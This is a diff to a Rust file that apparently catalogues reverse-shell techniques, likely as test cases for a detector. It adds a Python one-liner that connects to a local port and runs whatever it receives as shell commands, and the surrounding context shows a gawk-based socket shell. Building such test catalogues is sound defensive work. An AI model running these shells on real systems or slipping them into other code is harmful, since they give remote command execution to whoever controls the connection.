@@ -241,6 +241,20 @@ while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
 })
 .born_of_a_command();
 
+/// Nothing in the descriptors of what runs leads to the connection.
+pub const PYTHON_EACH_COMMAND: Attack = Attack::new(&["python3"], |tools, port| {
+    let python = tools.get("python3");
+    format!(
+        r#"{python} -c 'import socket,subprocess
+s=socket.create_connection(("127.0.0.1",{port}))
+while d:=s.recv(4096):
+    p=subprocess.Popen("cd /tmp; "+d.decode().strip()+" 2>&1; sleep 5",shell=True,stdin=subprocess.DEVNULL,stdout=subprocess.PIPE)
+    s.sendall(p.stdout.readline())'"#
+    )
+})
+.by_an_interpreter()
+.born_of_a_command();
+
 /// An interpreter's own options, and a way to standard input that nobody writes.
 pub const ODD_ARGUMENTS: Attack = Attack::new(&["python3"], |tools, port| {
     let (python, bash) = (tools.get("python3"), tools.get("bash"));
